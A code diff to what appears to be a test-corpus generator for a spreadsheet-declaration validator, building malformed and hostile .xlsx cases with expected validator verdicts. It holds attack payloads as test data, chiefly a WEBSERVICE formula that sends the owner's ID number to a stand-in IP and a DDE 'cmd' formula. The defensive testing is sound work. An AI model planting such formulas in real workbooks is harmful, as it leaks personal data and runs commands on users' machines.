@@ -168,12 +168,35 @@ def external_link(base: Path, out: Path) -> Path:
 
 
 def many_sheets(base: Path, out: Path, count: int = 3000) -> Path:
-    from openpyxl import Workbook
-
-    wb = Workbook(write_only=True)
-    for i in range(count):
-        wb.create_sheet(f"S{i}").append([i])
-    wb.save(out)
+    """A well-formed workbook with ``count`` sheets, written member by member (openpyxl takes ~10 s)."""
+    ns = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
+    rns = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
+    ct = ('<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
+          'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
+          'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override '
+          'PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.'
+          'sheet.main+xml"/>' + "".join(
+              f'<Override PartName="/xl/worksheets/sheet{i}.xml" ContentType="application/vnd.openxmlformats-'
+              f'officedocument.spreadsheetml.worksheet+xml"/>' for i in range(1, count + 1)) + "</Types>")
+    root_rels = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
+                 'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
+                 'officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>')
+    wb = (f'<?xml version="1.0" encoding="UTF-8"?><workbook {ns} {rns}><sheets>'
+          + "".join(f'<sheet name="S{i}" sheetId="{i}" r:id="rId{i}"/>' for i in range(1, count + 1))
+          + "</sheets></workbook>")
+    rels = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
+            '2006/relationships">' + "".join(
+                f'<Relationship Id="rId{i}" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+                f'relationships/worksheet" Target="worksheets/sheet{i}.xml"/>' for i in range(1, count + 1))
+            + "</Relationships>")
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
+        zf.writestr("[Content_Types].xml", ct)
+        zf.writestr("_rels/.rels", root_rels)
+        zf.writestr("xl/workbook.xml", wb)
+        zf.writestr("xl/_rels/workbook.xml.rels", rels)
+        for i in range(1, count + 1):
+            zf.writestr(f"xl/worksheets/sheet{i}.xml", f'<worksheet {ns}><sheetData><row r="1"><c r="A1">'
+                                                       f"<v>{i}</v></c></row></sheetData></worksheet>")
     return out
 
 
@@ -215,6 +238,171 @@ def _first_sheet_name(base: Path) -> str:
     return re.search(r'<(?:\w+:)?sheet\b[^>]*name="([^"]+)"', wb).group(1)
 
 
+# --- workbook-level cases (a filled declaration with one hostile cell or part) -------------------------
+def _where(base: Path, field_path: str) -> tuple[str, str]:
+    """(sheet, cell) of a declaration field in ``base``, as the reader finds it."""
+    from hpcarbon.workbook.reader import read_workbook
+
+    where = read_workbook(base).locate(field_path)
+    assert where and where[1], field_path
+    return where
+
+
+_CELL = r'<c\b(?P<attrs>[^>]*?\br="%s"[^>]*?)(?:/>|>(?P<body>.*?)</c>)'
+
+
+def _style(attrs: bytes) -> bytes:
+    m = re.search(rb'\bs="(\d+)"', attrs)
+    return b' s="%s"' % m.group(1) if m else b""
+
+
+def set_cell_xml(base: Path, out: Path, sheet: str, ref: str, make: Callable[[bytes], bytes]) -> Path:
+    """Replace cell ``ref`` of ``sheet`` by ``make(style_attr)`` — raw XML of a whole ``<c>`` element."""
+    part = sheet_part(base, sheet)
+    pattern = re.compile((_CELL % ref).encode(), re.DOTALL)
+
+    def edit(name: str, data: bytes) -> bytes:
+        if name != part:
+            return data
+        m = pattern.search(data)
+        assert m, (sheet, ref)
+        return data[:m.start()] + make(_style(m.group("attrs"))) + data[m.end():]
+
+    return _rewrite_zip(base, out, edit)
+
+
+def cell_in(base: Path, out: Path, field_path: str, make: Callable[[str, bytes], bytes]) -> Path:
+    """Replace the cell of ``field_path``: ``make(ref, style_attr)`` gives the new ``<c>`` element."""
+    sheet, ref = _where(base, field_path)
+    return set_cell_xml(base, out, sheet, ref, lambda style: make(ref, style))
+
+
+def _number(text: str) -> Callable[[Path, Path], Path]:
+    """An electricity reading whose stored number is ``text`` (``NaN``, ``Infinity``, ``1e308`` …)."""
+    def make(base: Path, out: Path) -> Path:
+        return cell_in(base, out, "monthly[1].electricity_kwh.air",
+                       lambda ref, st: b'<c r="%s"%s t="n"><v>%s</v></c>' % (ref.encode(), st, text.encode()))
+    return make
+
+
+def _inline_text(field_path: str, text: str) -> Callable[[Path, Path], Path]:
+    """A text cell holding ``text`` as an inline string (``text`` is XML: ``_x0001_`` escapes allowed)."""
+    def make(base: Path, out: Path) -> Path:
+        return cell_in(base, out, field_path, lambda ref, st: b'<c r="%s"%s t="inlineStr"><is><t>%s</t></is></c>'
+                       % (ref.encode(), st, text.encode()))
+    return make
+
+
+def formula_webservice(base: Path, out: Path) -> Path:
+    """=WEBSERVICE(...) in an electricity cell (sending the owner's ID out), with a plausible cached value."""
+    sheet, id_ref = _where(base, "project.owner.id_number")
+    formula = f'WEBSERVICE("http://203.0.113.9/leak?id="&amp;\'{sheet}\'!{id_ref})'.encode()
+    return cell_in(base, out, "monthly[1].electricity_kwh.air",
+                   lambda ref, st: b'<c r="%s"%s><f>%s</f><v>46000</v></c>' % (ref.encode(), st, formula))
+
+
+def formula_dde(base: Path, out: Path) -> Path:
+    """A DDE-style formula (=cmd|' /C calc'!A0) in the project-name cell, with a cached text."""
+    return cell_in(base, out, "project.name", lambda ref, st: (
+        b'<c r="%s"%s t="str"><f>cmd|\' /C calc\'!A0</f><v>%s</v></c>' % (ref.encode(), st, "示例".encode())))
+
+
+def merged_input_cells(base: Path, out: Path) -> Path:
+    """Two months' electricity cells merged into one (the second month's reading disappears in Excel)."""
+    sheet, first = _where(base, "monthly[1].electricity_kwh.air")
+    _, second = _where(base, "monthly[2].electricity_kwh.air")
+    part = sheet_part(base, sheet)
+
+    def edit(name: str, data: bytes) -> bytes:
+        if name != part:
+            return data
+        merge = b'<mergeCell ref="%s:%s"/>' % (first.encode(), second.encode())
+        if b"<mergeCells" in data:
+            return re.sub(rb"(<mergeCells\b[^>]*>)", lambda m: m.group(1) + merge, data, count=1)
+        return data.replace(b"</sheetData>", b"</sheetData><mergeCells>" + merge + b"</mergeCells>", 1)
+
+    return _rewrite_zip(base, out, edit)
+
+
+def _add_sheet(base: Path, out: Path, name: str, state: str, sheet_xml: bytes) -> Path:
+    def edit(member: str, data: bytes) -> bytes:
+        if member == "xl/workbook.xml":
+            entry = f'<sheet name="{name}" sheetId="99" state="{state}" r:id="rIdHostile"/>'.encode()
+            return data.replace(b"</sheets>", entry + b"</sheets>", 1)
+        if member == "xl/_rels/workbook.xml.rels":
+            return data.replace(b"</Relationships>", b'<Relationship Id="rIdHostile" Type="http://schemas.'
+                                b'openxmlformats.org/officeDocument/2006/relationships/worksheet" '
+                                b'Target="/xl/worksheets/hostile.xml"/></Relationships>')
+        if member == "[Content_Types].xml":
+            return data.replace(b"</Types>", b'<Override PartName="/xl/worksheets/hostile.xml" ContentType='
+                                b'"application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>')
+        return data
+
+    return _rewrite_zip(base, out, edit, extra={"xl/worksheets/hostile.xml": sheet_xml})
+
+
+def hidden_extra_sheet(base: Path, out: Path) -> Path:
+    """A hidden sheet the template does not have, holding other figures."""
+    xml = (b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
+           b'<row r="1"><c r="A1" t="inlineStr"><is><t>real kWh</t></is></c><c r="B1"><v>999999</v></c></row>'
+           b'</sheetData></worksheet>')
+    return _add_sheet(base, out, "备用", "veryHidden", xml)
+
+
+def template_sheet_hidden(base: Path, out: Path) -> Path:
+    """The monthly-data sheet of the template hidden."""
+    from hpcarbon.workbook import layout as L
+
+    pattern = re.compile(rb'(<sheet\b[^>]*name="%s"[^>]*?)\s*state="[^"]*"' % re.escape(L.S_MONTHLY.encode()))
+
+    def edit(name: str, data: bytes) -> bytes:
+        if name != "xl/workbook.xml":
+            return data
+        data = pattern.sub(rb"\1", data)
+        return re.sub(rb'(<sheet\b[^>]*name="%s")' % re.escape(L.S_MONTHLY.encode()), rb'\1 state="hidden"', data)
+
+    return _rewrite_zip(base, out, edit)
+
+
+def foreign_workbook(base: Path, out: Path) -> Path:
+    """A valid .xlsx that is not the declaration template."""
+    from openpyxl import Workbook
+
+    wb = Workbook()
+    wb.active.append(["month", "kWh"])
+    wb.active.append(["2024-10", 16000])
+    wb.save(out)
+    return out
+
+
+def _monthly_sheet(base: Path) -> str:
+    from hpcarbon.workbook import layout as L
+
+    return L.S_MONTHLY
+
+
+WORKBOOK_LEVEL_CASES: dict[str, Callable[[Path, Path], Path]] = {
+    "million-row-dimension.xlsx": lambda b, o: million_row_used_range(b, o, _monthly_sheet(b)),
+    "million-rows-monthly.xlsx": lambda b, o: million_rows_of_data(b, o, _monthly_sheet(b)),
+    "formula-webservice.xlsx": formula_webservice,
+    "formula-dde.xlsx": formula_dde,
+    "number-nan.xlsx": _number("NaN"),
+    "number-infinity.xlsx": _number("Infinity"),
+    "number-minus-inf.xlsx": _number("-inf"),
+    "number-1e308.xlsx": _number("1e308"),
+    "number-1e309.xlsx": _number("1e309"),
+    "control-escape.xlsx": _inline_text("project.name", "示例_x0001_项目_x001B_[2J"),
+    "control-del.xlsx": _inline_text("project.address", "长春市南关区\x7f示例路 1 号"),
+    "control-in-month.xlsx": _inline_text("monthly[0].month", "2024-10_x0007_"),
+    "long-text-100k.xlsx": _inline_text("project.name", "长" * 100_000),
+    "long-text-personal.xlsx": _inline_text("project.owner.name", "王" * 100_000),
+    "merged-input.xlsx": merged_input_cells,
+    "hidden-extra-sheet.xlsx": hidden_extra_sheet,
+    "template-sheet-hidden.xlsx": template_sheet_hidden,
+    "external-link.xlsx": external_link,
+    "foreign-workbook.xlsx": foreign_workbook,
+}
+
 FILE_LEVEL_CASES = {
     "empty.xlsx": empty,
     "random-bytes.xlsx": random_bytes,
@@ -225,13 +413,60 @@ FILE_LEVEL_CASES = {
     "zip-bomb.xlsx": zip_bomb,
     "billion-laughs.xlsx": billion_laughs,
     "macro.xlsm": macro_workbook,
-    "external-link.xlsx": external_link,
     "many-sheets.xlsx": many_sheets,
 }
 
 
+#: Every case of the corpus but XXE (which needs a canary file: see :func:`build_corpus`).
+CASES: dict[str, Callable[[Path, Path], Path]] = {**FILE_LEVEL_CASES, **WORKBOOK_LEVEL_CASES}
+
+#: What the validator must answer for each case: the exit status and a finding code that says why.
+EXPECTED: dict[str, tuple[int, str]] = {
+    "empty.xlsx": (2, "file.empty"),
+    "random-bytes.xlsx": (2, "file.not_xlsx"),
+    "truncated-zip.xlsx": (2, "file.corrupt_zip"),
+    "csv-renamed.xlsx": (2, "file.not_xlsx"),
+    "xls-renamed.xlsx": (2, "file.legacy_xls"),
+    "encrypted.xlsx": (2, "file.encrypted"),
+    "zip-bomb.xlsx": (2, "file.zip_bomb"),
+    "billion-laughs.xlsx": (2, "file.xml_doctype"),
+    "xxe.xlsx": (2, "file.xml_doctype"),
+    "macro.xlsm": (0, "file.macro"),  # a warning: macros are never run (test_validate.py decides so)
+    "many-sheets.xlsx": (2, "file.too_many_sheets"),
+    "million-row-dimension.xlsx": (2, "file.too_many_rows"),
+    "million-rows-monthly.xlsx": (2, "file.too_many_rows"),
+    "formula-webservice.xlsx": (1, "workbook.formula_in_input"),
+    "formula-dde.xlsx": (1, "workbook.formula_in_input"),
+    "number-nan.xlsx": (2, "workbook.bad_cell_value"),
+    "number-infinity.xlsx": (2, "workbook.bad_cell_value"),
+    "number-minus-inf.xlsx": (2, "workbook.bad_cell_value"),
+    "number-1e308.xlsx": (1, "field.invalid"),
+    "number-1e309.xlsx": (1, "field.invalid"),
+    "control-escape.xlsx": (1, "workbook.control_characters"),
+    "control-del.xlsx": (1, "workbook.control_characters"),
+    "control-in-month.xlsx": (1, "workbook.control_characters"),
+    "long-text-100k.xlsx": (1, "field.invalid"),
+    "long-text-personal.xlsx": (1, "field.invalid"),
+    "merged-input.xlsx": (1, "workbook.merged_input"),
+    "hidden-extra-sheet.xlsx": (1, "workbook.hidden_sheet"),
+    "template-sheet-hidden.xlsx": (1, "workbook.hidden_sheet"),
+    "external-link.xlsx": (1, "file.external_links"),
+    "foreign-workbook.xlsx": (2, "workbook.not_template"),
+}
+
+
+def build_corpus(base: Path, folder: Path, canary: Path) -> dict[str, Path]:
+    """Write every case into ``folder``; ``canary`` is the file the XXE case points at."""
+    folder.mkdir(parents=True, exist_ok=True)
+    out = {name: make(base, folder / name) for name, make in CASES.items()}
+    out["xxe.xlsx"] = xxe(base, folder / "xxe.xlsx", canary)
+    return out
+
+
 if __name__ == "__main__":  # pragma: no cover - manual use
     base_path, folder = Path(sys.argv[1]), Path(sys.argv[2])
+    canary_path = folder / "canary.txt"
     folder.mkdir(parents=True, exist_ok=True)
-    for name, make in FILE_LEVEL_CASES.items():
-        print(make(base_path, folder / name))
+    canary_path.write_text(CANARY_TEXT, encoding="utf-8")
+    for path in build_corpus(base_path, folder, canary_path).values():
+        print(path)
